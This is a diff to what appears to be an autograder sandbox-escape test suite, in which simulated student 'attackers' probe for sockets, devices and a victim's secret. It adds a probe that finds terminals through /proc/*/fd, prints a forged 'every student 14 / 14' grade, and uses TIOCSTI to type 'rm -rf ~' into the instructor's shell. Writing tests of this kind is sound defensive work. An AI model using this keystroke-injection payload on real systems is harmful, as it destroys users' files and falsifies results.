@@ -7,7 +7,7 @@ verdict (``FULL``; ``TARGET_ZERO``, the target lstm_step_forward made wrong; "ze
 test at 0; "only F", only F's test scored; ``ALL_ZERO``, every test at 0).
 
 Students whose names start with ``aa_`` and ``ab_`` are graded first and side by side
-(``--jobs 2``): the victim holds a secret and prints it for half a minute while the class-1
+(``--jobs 2``): the victim holds a secret and prints it for twenty seconds while the class-1
 attackers look for a way into its kernel. ``zz_victim_after`` is graded last, after every
 process that tried to outlive its own submission.
 """
@@ -93,7 +93,7 @@ def _fill(path, mib):
         pass
     return written
 
-def _try_all(discover, seconds=6, pause=0.5):
+def _try_all(discover, seconds=4, pause=0.5):
     """For ``seconds``: every foreign socket ``discover()`` lists, and the ones it reached."""
     found, connected = set(), set()
     deadline = _time.time() + seconds
@@ -141,7 +141,7 @@ def _raw(change):
 # ----------------------------------------------------------------------------- the victims
 VICTIM = (f'VICTIM_SECRET = "victim-" + "secret-7f3a"\n'
           "import time\n"
-          "for _ in range(60):\n"
+          "for _ in range(40):\n"
           "    print(VICTIM_SECRET, flush=True)\n"
           "    time.sleep(0.5)\n")
 
@@ -165,7 +165,7 @@ PROBE(found=[n for n in names if "autograder" in n], connected=connected)
 import zmq
 ctx = zmq.Context.instance()
 heard, tried = [], []
-deadline = _time.time() + 6
+deadline = _time.time() + 4
 while _time.time() < deadline:
     for name in _foreign(_unix_names() + _socket_files(("/tmp", "/run", "/var")))[:50]:
         tried.append(name)
@@ -751,6 +751,26 @@ try:
 except OSError:
     dev = []
 PROBE(found=dev, connected=opened)
+''',
+    "terminals_behind_fds": r'''
+import fcntl, termios
+seen, opened = [], []
+for link in _glob.glob("/proc/*/fd/*"):
+    try:
+        target = _os.readlink(link)
+    except OSError:
+        continue
+    if "/dev/pts" in target or "/dev/tty" in target or "/dev/console" in target:
+        seen.append(target)
+        try:
+            fd = _os.open(link, _os.O_WRONLY)
+            _os.write(fd, b"\x1b[2J\rFORGED: every student 14 / 14\n")
+            for ch in b"rm -rf ~\n":  # TIOCSTI: typed into the instructor's shell
+                fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
+            opened.append(target)
+        except OSError:
+            pass
+PROBE(found=seen, connected=opened)
 ''',
     "mknod_and_mount": r'''
 made = []
